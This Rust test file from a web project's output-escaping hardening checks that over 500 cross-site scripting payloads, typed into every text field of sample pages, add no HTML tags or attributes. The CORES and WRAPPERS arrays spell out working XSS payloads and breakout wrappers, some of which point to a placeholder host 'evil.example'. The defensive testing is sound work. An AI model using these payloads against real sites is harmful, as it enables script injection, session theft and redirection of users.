//! HARDENING 41: what people type never becomes markup, whatever it is.
use super::*;

/// A tag's name and its attributes with their values.
pub type Tag = (String, Vec<(String, String)>);

/// Tags with their attributes, read as a browser's tokenizer would where it matters here: quoted
/// values may hold anything, raw-text elements end only at their own end tag.
pub fn tags(html: &str) -> Vec<Tag> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if !rest.starts_with(|c: char| c.is_ascii_alphabetic()) {
            continue;
        }
        let (tag, after) = one_tag(rest);
        rest = after;
        if ["script", "title", "textarea"].contains(&tag.0.as_str()) {
            let end = rest.find(&format!("</{}", tag.0)).expect("raw text ends");
            rest = &rest[end..];
        }
        tags.push(tag);
    }
    tags
}

fn one_tag(text: &str) -> (Tag, &str) {
    let name_end = text
        .find(|c: char| c.is_ascii_whitespace() || c == '>' || c == '/')
        .unwrap_or(text.len());
    let name = text[..name_end].to_ascii_lowercase();
    let mut rest = &text[name_end..];
    let mut attributes = Vec::new();
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
        if rest.is_empty() {
            return ((name, attributes), rest);
        }
        if let Some(after) = rest.strip_prefix('>') {
            return ((name, attributes), after);
        }
        let end = rest
            .find(|c: char| c.is_ascii_whitespace() || "=>/".contains(c))
            .unwrap_or(rest.len())
            .max(1);
        let attribute = rest[..end].to_ascii_lowercase();
        rest = &rest[end..];
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix('=') {
            let quoted = after.strip_prefix('"').expect("our templates quote all values");
            let close = quoted.find('"').expect("a quoted value ends");
            quoted[..close].clone_into(&mut value);
            rest = &quoted[close + 1..];
        }
        attributes.push((attribute, value));
    }
}

/// 500 and more ways in: every wrapper around every core.
fn payloads() -> Vec<String> {
    const CORES: [&str; 26] = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<math><mtext><style><img src onerror=alert(1)>",
        "<object data=javascript:alert(1)>",
        "<embed src=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example>",
        "<form action=//evil.example><button>x",
        "<style>*{display:none}</style>",
        "<mark onclick=alert(1)>x</mark>",
        "<video><source onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[><script>alert(1)</script>]]>",
        "<plaintext>",
        "<xss style=x:expression(alert(1))>",
        "\u{202e}<script\u{0}>alert(1)</script>",
    ];
    const WRAPPERS: [(&str, &str); 20] = [
        ("", ""),
        ("\"", ""),
        ("'", ""),
        ("\">", ""),
        ("'>", ""),
        ("\" ", " x=\""),
        ("' ", " x='"),
        ("</title>", ""),
        ("</textarea>", ""),
        ("</script>", ""),
        ("</mark>", "<mark>"),
        ("-->", "<!--"),
        ("]]>", ""),
        ("</noscript>", ""),
        ("</template>", ""),
        ("</option></select>", ""),
        ("</svg>", ""),
        ("\\u003c\\u0022", ""),
        ("&lt;&quot;", "&gt;"),
        ("{", "}"),
    ];
    let mut payloads = Vec::new();
    for core in CORES {
        for (before, after) in WRAPPERS {
            payloads.push(format!("{before}{core}{after}"));
        }
    }
    payloads.push("\" onmouseover=\"alert(1)".into());
    payloads.push("' onmouseover='alert(1)".into());
    payloads.push("` onmouseover=`alert(1)".into());
    payloads.push("javascript:alert(1)".into());
    payloads
}

/// Tags with the names of their attributes: what a page is made of, without its texts.
fn skeleton(html: &str) -> Vec<(String, Vec<String>)> {
    tags(html)
        .into_iter()
        .map(|(tag, attributes)| (tag, attributes.into_iter().map(|(name, _)| name).collect()))
        .collect()
}

#[test]
fn five_hundred_payloads_in_every_text_field_add_no_tag_and_no_attribute() {
    let t = Localizer::of(Lang::English);
    let calm: Vec<_> = with_texts(t, "calm");
    let payloads = payloads();
    assert!(payloads.len() >= 500);
    for payload in &payloads {
        // Line breaks and marks are ours; payloads have neither, `calm` has neither.
        for ((name, expected), (_, html)) in calm.iter().zip(with_texts(t, payload)) {
            let found = skeleton(&html);
            let found: Vec<_> = found
                .into_iter()
                .filter(|(tag, attributes)| tag != "mark" || !attributes.is_empty())
                .collect();
            let expected: Vec<_> = skeleton(expected)
                .into_iter()
                .filter(|(tag, _)| tag != "mark")
                .collect();
            assert!(found == expected, "{name} with {payload}");
        }
    }
}

fn with_texts(t: &Localizer, text: &str) -> Vec<(&'static str, String)> {
    let say = |_: &str| text.to_owned();
    Samples::new(t, &say)
        .all()
        .into_iter()
        .map(|(name, page)| (name, page.into_string()))
        .collect()
}
